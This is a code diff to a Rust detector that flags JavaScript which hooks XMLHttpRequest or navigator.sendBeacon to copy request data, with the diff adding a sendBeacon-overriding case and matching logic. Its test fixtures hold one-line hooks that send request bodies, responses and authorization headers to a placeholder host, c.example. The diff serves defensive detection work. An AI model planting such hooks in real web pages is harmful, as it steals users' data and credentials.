@@ -18,6 +18,7 @@ pub(super) const SIGNAL: Signal = Signal {
     #[cfg(test)]
     cases: crate::signals::Cases {
         with: &[
+            "var b=navigator.sendBeacon;navigator.sendBeacon=function(u,d){new Image().src='https://c.example/p?'+encodeURIComponent(d);return b.call(navigator,u,d)}",
             "const own=XMLHttpRequest.prototype.setRequestHeader;XMLHttpRequest.prototype.setRequestHeader=function(k,v){if(k.toLowerCase()=='authorization')navigator.sendBeacon('https://c.example/a',v);return own.apply(this,arguments)}",
             "(function XMLHttpRequest(){})();{class A{}function XMLHttpRequest(){}}if(0)var XMLHttpRequest=function(){};var o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(d){navigator.sendBeacon('https://c.example/x',d);return o.apply(this,arguments)}",
             "var o=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(d){navigator.sendBeacon('https://c.example/x',d);return o.apply(this,arguments)}",
@@ -26,6 +27,7 @@ pub(super) const SIGNAL: Signal = Signal {
             "var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){this.addEventListener('load',function(){navigator.sendBeacon('https://c.example/p',this.responseText)});return s.apply(this,arguments)}",
         ],
         without: &[
+            "var b=navigator.sendBeacon;navigator.sendBeacon=function(u,d){n++;return b.call(navigator,u,d)};setInterval(()=>fetch('https://m.example/n',{method:'POST',body:String(n)}),9e3)",
             "!function(w){var f=w.fetch,s=XMLHttpRequest.prototype.send,q=[];w.fetch=function(u,o){q.push({m:(o||{}).method,p:u});return f.apply(this,arguments)};XMLHttpRequest.prototype.send=function(b){var x=this;x.addEventListener('loadend',function(){q.push(x.status)});return s.apply(x,arguments)};setInterval(function(){navigator.sendBeacon('https://m.example/b',JSON.stringify(q))},9e3)}(window)",
             "const f=window.fetch;window.fetch=(...a)=>f(...a).then(r=>{r.clone().text().then(t=>navigator.sendBeacon('https://m.example/s',String(t.length)));return r})",
             "var Q=function(){function e(){this.queue=[]}return e.prototype.send=function(t,n){return fetch('https://m.example/batch',{method:'POST',body:JSON.stringify(t)})},e}()",
@@ -43,18 +45,22 @@ fn copies_contents(evidence: &Evidence<'_>, held: Held) -> bool {
         near.kind(at) != Some(Kind::Key) && !(near.word(at) == "arguments" && near.is(at + 1, b')'))
     }) || near.has_word(&["setRequestHeader", "clone"])
         || near.words(&["send"]).any(|at| near.before(at, 1) == "prototype" && looks_at_body(near, at))
+        || near.words(&["sendBeacon"]).any(|at| near.before(at, 1) == "navigator" && looks_at_body(near, at))
         || hands_all_on(near)
 }
 
-/// Whether what takes the place of `send` looks at what it is given, and does not only hand it on: `send = function (body) { own.call(this,
-/// body) }` may count requests.
+/// Whether what takes the place of `send` or `sendBeacon` looks at what it is given, and does not only hand it on:
+/// `send = function (body) { own.call(this, body) }` may count requests.
 fn looks_at_body(near: Near<'_>, send: usize) -> bool {
     if !near.is(send + 1, b'=') {
         return false;
     }
     let Some(body) = near.function_in(send + 2..send + 4) else { return true };
+    // `sendBeacon(address, body)`
+    let has_address = near.word(send) == "sendBeacon";
     let given = (send + 3..body.start)
-        .find(|at| near.kind(*at) == Some(Kind::Name) && (near.is(at + 1, b')') || near.is(at + 1, b',')));
+        .filter(|at| near.kind(*at) == Some(Kind::Name) && (near.is(at + 1, b')') || near.is(at + 1, b',')))
+        .nth(usize::from(has_address));
     let handed_on =
         |at: usize| (at.saturating_sub(6)..at).any(|at| matches!(near.word(at), "apply" | "call"));
     let inside = near.among(body);
